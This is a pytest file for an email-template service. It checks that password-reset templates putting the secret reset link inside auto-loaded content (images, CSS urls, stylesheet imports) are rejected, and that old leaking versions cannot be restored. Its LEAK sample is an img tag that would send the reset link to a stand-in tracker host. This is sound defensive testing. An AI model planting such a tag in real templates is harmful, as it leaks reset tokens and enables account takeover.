"""Issue #11 item 5 through the API and the editor: the reset link may not be saved into an image (or
anything else a mail client loads by itself); the answer names the line. Links stay allowed."""

from __future__ import annotations

from dataclasses import replace

import pytest
from fastapi.testclient import TestClient

from mailroom import SYSTEM, Mailroom
from mailroom.adapters.storage.template_store import SqlTemplateStore
from mailroom.errors import InvalidInput
from tests.web.test_admin_pages import RESET, template_form
from tests.web.test_api import API, assert_error

RESET_API = f"{API}/templates/mailroom.account/password_reset/en"
LEAK = '<p>Hello {{ first_name }},</p>\n<img src="https://tracker.example/p.gif?u={{ confirm_url|urlencode }}">'


def test_the_api_refuses_a_reset_link_in_an_image_with_its_line(admin: TestClient) -> None:
    current = admin.get(RESET_API).json()
    answer = admin.put(RESET_API, json={"subject": current["subject"], "text": current["text"],
                                        "html": LEAK, "variables": current["variables"]})
    assert_error(answer, 422, "secret_variable_exposed", "html")
    assert "line 2" in answer.json()["message"] and "<img src>" in answer.json()["message"]
    for html in ('<div style="background-image: url({{ confirm_url }})">x</div>',
                 '<link rel="stylesheet" href="{{ confirm_url }}">', '<style>@import "{{ confirm_url }}";</style>'):
        refused = admin.put(RESET_API, json={"subject": current["subject"], "text": current["text"], "html": html,
                                             "variables": current["variables"]})
        assert_error(refused, 422, "secret_variable_exposed", "html")
    assert admin.get(RESET_API).json()["version"] == current["version"]  # nothing was stored
    fine = admin.put(RESET_API, json={"subject": current["subject"], "text": current["text"],
                                      "html": '<a href="{{ confirm_url }}"><img src="https://acme.example/logo.png"></a>',
                                      "variables": current["variables"]})
    assert fine.status_code == 200, fine.text


def test_the_editor_shows_the_refusal_on_its_page(admin: TestClient, room: Mailroom) -> None:
    answer = admin.post(RESET, data=template_form(admin, room, html=LEAK))
    assert answer.status_code == 422
    assert "confirm_url" in answer.text and "line 2" in answer.text and "&lt;img src&gt;" in answer.text


def test_an_old_version_that_leaks_cannot_be_restored(room: Mailroom) -> None:
    current = room.templates.get_template(SYSTEM, "mailroom.account", "password_reset", "en")
    # A version saved before the check existed, written straight to the store.
    store = SqlTemplateStore(room.database)  # the use case would refuse it, which is the point
    leaked = store.save_template(replace(current, html=LEAK), saved_by=None, now=room.clock.now())
    room.templates.save_template(SYSTEM, current)
    with pytest.raises(InvalidInput, match="is secret"):
        room.templates.restore_version(SYSTEM, "mailroom.account", "password_reset", "en", leaked.version)
